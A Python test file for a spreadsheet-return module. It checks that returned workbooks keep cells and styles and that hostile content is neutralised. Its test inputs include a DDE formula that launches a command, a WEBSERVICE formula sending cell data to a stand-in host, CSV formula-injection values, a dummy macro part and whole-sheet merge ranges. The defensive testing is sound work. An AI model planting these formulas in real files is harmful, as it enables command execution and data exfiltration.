"""The workbook that goes back: the sender's own cells, remarks in them, columns at the end, and nothing that runs."""

import json
import zipfile
from datetime import date

import pytest
import workbooks
from django.utils.translation import override
from openpyxl import Workbook, load_workbook

from commonwork.engines.reading import returning
from commonwork.engines.reading.returning import Addition, Remark, Returned, give_back
from commonwork.engines.reading.understanding import understand
from commonwork.flows.reading import Said, read_any, words_of
from commonwork.flows.returning import registered, with_problems

WORDS = words_of()


def back(path, *remarks, additions=(), title=""):
    target = path.parent / "back.xlsx"
    made = give_back(path, understand(path, WORDS), target, remarks=remarks, additions=additions, title=title)
    return made, load_workbook(target)


def comments(sheet):
    return {cell.coordinate: cell.comment.text for row in sheet.iter_rows() for cell in row if cell.comment}


def test_her_own_workbook_keeps_its_cells_sheets_and_styles(tmp_path):
    path = workbooks.make("ja", tmp_path / "list.xlsx")
    made, book = back(
        path, Remark("会員名簿!D12", "検査数字"), Remark("会員名簿!A1", "見出し"), Remark("list.xlsx", "全体"),
        additions=[Addition("当方の番号", {"会員名簿!6": "org-1", "会員名簿!7": "=1+1"})], title="問題点",
    )  # fmt: skip
    sheet, own = book["会員名簿"], load_workbook(path)["会員名簿"]
    same = [cell.coordinate for row in own.iter_rows() for cell in row if sheet[cell.coordinate].value != cell.value]
    assert (made, same, book.sheetnames) == (Returned(True, 2), [], ["会員名簿", "記入上の注意", "問題点"])
    assert comments(sheet) == {"D12": "検査数字", "A1": "見出し"}
    assert (sheet["B4"].font.bold, sheet.merged_cells.ranges == own.merged_cells.ranges) == (True, True)
    assert [sheet[cell].value for cell in ("N5", "N6", "N7", "N8")] == ["当方の番号", "org-1", "=1+1", None]
    assert (sheet["N7"].data_type, sheet["N7"].quotePrefix) == ("s", True)
    assert [[cell.value for cell in row] for row in book["問題点"]] == [
        ["会員名簿!D12", "検査数字"], ["会員名簿!A1", "見出し"], ["list.xlsx", "全体"],
    ]  # fmt: skip


def test_other_files_come_back_as_a_workbook_with_the_same_cells(tmp_path):
    path = tmp_path / "list.csv"
    path.write_text("name,city,members\nAlpha cooperative,X,007\n=HYPERLINK(1),@Y,-3\n", encoding="utf-8")
    made, book = back(path, Remark("C3", "a count?"), additions=[Addition("id", {"2": "org-1"})])
    sheet = book.worksheets[0]
    assert (made, comments(sheet)) == (Returned(False, 1), {"C3": "a count?"})
    assert [[cell.value for cell in row] for row in sheet] == [
        ["name", "city", "members", "id"],
        ["Alpha cooperative", "X", "007", "org-1"],
        ["=HYPERLINK(1)", "@Y", "-3", None],
    ]
    assert {cell.data_type for cell in sheet[3][:3]} == {"s"}


def test_a_json_list_comes_back_as_a_workbook(tmp_path):
    path = tmp_path / "list.json"
    path.write_text(json.dumps({"items": [{"name": "Alpha", "city": "X"}, {"name": "Beta"}]}), encoding="utf-8")
    _, book = back(path, Remark("items[1].city", "no city"), additions=[Addition("id", {"items[1]": "org-2"})])
    sheet = book.worksheets[0]
    assert [[cell.value for cell in row] for row in sheet] == [
        ["name", "city", "id"],
        ["Alpha", "X", None],
        ["Beta", None, "org-2"],
    ]
    assert comments(sheet) == {"B3": "no city"}


def test_a_large_workbook_is_laid_out_row_by_row(tmp_path, monkeypatch):
    monkeypatch.setattr(returning, "MOST_STYLED", 10)
    path = workbooks.make("fa", tmp_path / "list.xlsx")
    made, book = back(path, Remark("اعضا!D13", "تاریخ"))
    sheet, own = book["اعضا"], load_workbook(path)["اعضا"]
    assert (made, comments(sheet), sheet.sheet_view.rightToLeft) == (Returned(False, 1), {"D13": "تاریخ"}, True)
    assert [[cell.value for cell in row] for row in sheet] == [[cell.value for cell in row] for row in own]


def test_formulas_that_reach_out_and_macros_do_not_come_back(tmp_path):
    book = Workbook()
    sheet = book.active
    for row in (["name", "members"], ["Alpha coop", 2], ["Beta coop", 3], ["Gamma coop", "=SUM(B2:B3)"]):
        sheet.append(row)
    sheet["C2"], sheet["C3"] = "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.example/"&A1)'
    path = tmp_path / "list.xlsm"
    book.save(path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"macro")
    _, made = back(path)
    assert [made.active[cell].data_type for cell in ("B4", "C2", "C3")] == ["f", "s", "s"]
    assert "xl/vbaProject.bin" not in zipfile.ZipFile(tmp_path / "back.xlsx").namelist()


@pytest.mark.parametrize("spans", ['<mergeCell ref="A1:XFD1048576"/>', '<mergeCell ref="B2:C1048576"/>'])
def test_a_range_over_the_whole_sheet_is_not_laid_out(spans, tmp_path):
    book = Workbook()
    for row in (["name", "members"], ["Alpha coop", 2], ["Beta coop", 3]):
        book.active.append(row)
    plain, path = tmp_path / "plain.xlsx", tmp_path / "list.xlsx"
    book.save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            text = old.read(name)
            merged = f"</sheetData><mergeCells count='1'>{spans}</mergeCells>".encode()
            new.writestr(name, text.replace(b"</sheetData>", merged) if "sheet1" in name else text)
    made, _ = back(path)
    assert made == Returned(False, 0)


@pytest.mark.parametrize("language", ["ja", "hi"])
def test_the_sentences_are_in_the_readers_language(language, tmp_path):
    path = workbooks.make("ja", tmp_path / "list.xlsx")
    found = read_any(path, Said(country="JP", language="ja"), effective=date(2026, 4, 1))
    with override(language):
        with_problems(path, found, tmp_path / "problems.xlsx")
        known = {found.reading.rows[0].key: ("org-1", "https://x.example/org-1")}
        registered(path, found, tmp_path / "better.xlsx", known=known)
    said = comments(load_workbook(tmp_path / "problems.xlsx")["会員名簿"])
    better = load_workbook(tmp_path / "better.xlsx")["会員名簿"]
    wanted = {
        "ja": ("チェックデジット", "有効", "無効", "労働者協同組合ひので清掃（見本）; 国・地域: 日本; "),
        "hi": ("जाँच", "मान्य", "मान्य नहीं", "労働者協同組合ひので清掃（見本）; देश या क्षेत्र: जापान"),
    }[language]  # fmt: skip
    assert wanted[0] in said["D12"]
    assert (better["P6"].value, better["P12"].value) == wanted[1:3]
    assert better["Q6"].value.startswith(wanted[3])
    assert (better["N6"].value, better["O6"].value) == ("org-1", "https://x.example/org-1")
